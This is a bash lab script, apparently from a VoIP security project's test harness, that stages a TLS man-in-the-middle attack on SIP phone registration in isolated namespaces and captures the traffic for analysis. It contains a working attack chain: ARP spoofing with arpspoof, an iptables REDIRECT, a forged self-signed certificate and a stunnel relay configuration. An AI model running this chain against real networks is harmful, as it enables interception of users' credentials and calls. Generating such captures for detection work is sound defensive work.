#!/usr/bin/env bash
# TLS man in the middle: 1001 (ph1 10.77.0.11) and 1002 (ph2 10.77.0.12) register over TLS 1.2 to kamailio
# 10.77.0.1:5061 (SNI pbx.lab.callguard) and get kamailio's self-signed RSA-2048 certificate (CN=pbx.lab.callguard,
# O=callguard lab). Then the attacker cg-att (10.77.0.66, 02:77:00:00:00:42) runs dsniff's
#   arpspoof -i cgeth0 -t 10.77.0.11 10.77.0.1
# (ph1 is told every 2 s that 10.77.0.1 is at 02:77:00:00:00:42), forwards IP, and REDIRECTs TCP to port 5061 from
# 10.77.0.11 to its own stunnel, which presents the attacker's own self-signed certificate (a new EC P-256 key,
# CN=pbx.lab.callguard, O=evil: same name and SAN, another subject/issuer and key) and connects onward to the real
# 10.77.0.1:5061 over TLS 1.2 from 10.77.0.66. 1001 registers again (tests/lab/sip_tls.py verifies no certificate):
# for the same server address and SNI it now gets the attacker's certificate, and the REGISTER reaches kamailio
# through the attacker. Then arpspoof stops (SIGTERM: it re-ARPs the true binding) and the REDIRECT is removed;
# nobody registers after that (so the capture holds one certificate change for the phones' server, not a change back).
# The mirror shows the intercepted session as 10.77.0.11 <-> "10.77.0.1:5061" (frames to/from the attacker's MAC)
# and stunnel's onward connection 10.77.0.66 -> 10.77.0.1:5061 (SNI 10.77.0.1, stunnel's default) with the real one.
set -euo pipefail
# shellcheck source=../lab.sh
. "$(dirname "$0")/../lab.sh"
trap lab_down EXIT
NAME=tls-mitm
PBX_MAC=$(lab_mac 1)
ATT_MAC=$(lab_mac 0x42)

# ph1_sees_pbx_at MAC [SECONDS] : wait until ph1's neighbour entry for 10.77.0.1 names MAC (default 15 s).
ph1_sees_pbx_at() {
	local mac=$1 secs=${2:-15} _i
	for _i in $(seq $((secs * 10))); do
		in_ns ph1 ip neigh show 10.77.0.1 dev cgeth0 | grep -q "lladdr $mac" && return 0
		sleep 0.1
	done
	lab_log "ph1 never saw 10.77.0.1 at $mac: $(in_ns ph1 ip neigh show 10.77.0.1)"
	return 1
}

lab_up
lab_kamailio pbx.lab.callguard cert-a

# The attacker: forwarding on (no ICMP redirects), its own certificate, stunnel TLS -> TLS through loopback.
in_ns att sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.cgeth0.send_redirects=0
MITM="$LAB_TMP/mitm"
mkdir -p "$MITM"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -sha256 -days 30 \
	-subj "/CN=pbx.lab.callguard/O=evil" -addext "subjectAltName=DNS:pbx.lab.callguard,IP:10.77.0.1" \
	-keyout "$MITM/evil.key" -out "$MITM/evil.pem" >/dev/null 2>&1
cat >"$MITM/stunnel.conf" <<EOF
foreground = yes
pid =
debug = info
syslog = no

[mitm-in]
accept = 10.77.0.66:5061
cert = $MITM/evil.pem
key = $MITM/evil.key
sslVersionMin = TLSv1.2
sslVersionMax = TLSv1.2
connect = 127.0.0.1:15061

[mitm-out]
client = yes
accept = 127.0.0.1:15061
connect = 10.77.0.1:5061
sslVersionMin = TLSv1.2
sslVersionMax = TLSv1.2
EOF
lab_bg att stunnel "$MITM/stunnel.conf"
STUNNEL=$LAB_LAST_PID
for _i in $(seq 50); do
	in_ns att ss -ltn | grep -q '10.77.0.66:5061' && break
	sleep 0.1
done

lab_record_start "$LAB_TMP/cap.pcap"
# 1. the real certificate, for 1001 and then 1002 (whose ARP exchange with the PBX is the second time the PBX
# claims 10.77.0.1 on the wire: the binding is established before the attack, as on a LAN that has been up a while)
in_ns ph1 /usr/bin/python3 "$LAB_DIR/sip_tls.py" reg 1001 tiger42 10.77.0.11
ph1_sees_pbx_at "$PBX_MAC" 1
in_ns ph2 /usr/bin/python3 "$LAB_DIR/sip_tls.py" reg 1002 orchid77 10.77.0.12
sleep 1
# 2. interception: ARP spoofing of the PBX towards ph1, TCP 5061 from ph1 redirected to stunnel
in_ns att iptables -t nat -A PREROUTING -i cgeth0 -s 10.77.0.11 -d 10.77.0.1 -p tcp --dport 5061 \
	-j REDIRECT --to-ports 5061
lab_bg att arpspoof -i cgeth0 -t 10.77.0.11 10.77.0.1
SPOOF=$LAB_LAST_PID
ph1_sees_pbx_at "$ATT_MAC"
sleep 0.5
in_ns ph1 /usr/bin/python3 "$LAB_DIR/sip_tls.py" reg 1001 tiger42 10.77.0.11
sleep 4
# 3. restore: arpspoof re-ARPs the true binding when stopped, then the REDIRECT goes
kill -TERM "$SPOOF"
lab_wait "$SPOOF" 20
ph1_sees_pbx_at "$PBX_MAC"
in_ns att iptables -t nat -D PREROUTING -i cgeth0 -s 10.77.0.11 -d 10.77.0.1 -p tcp --dport 5061 \
	-j REDIRECT --to-ports 5061
lab_record_stop
lab_stop "$STUNNEL"
lab_log "stunnel: $(grep -E 'accepted|connected|SNI|Certificate|Error|error' "$LAB_TMP"/cg-att-*.log | tr '\n' ' ')"
lab_log "kamailio (real): $(openssl x509 -in "$LAB_TMP/kam/cert-a.pem" -noout -fingerprint -sha256)"
lab_log "attacker (stunnel): $(openssl x509 -in "$MITM/evil.pem" -noout -fingerprint -sha256)"
lab_save "$LAB_TMP/cap.pcap" "$NAME"
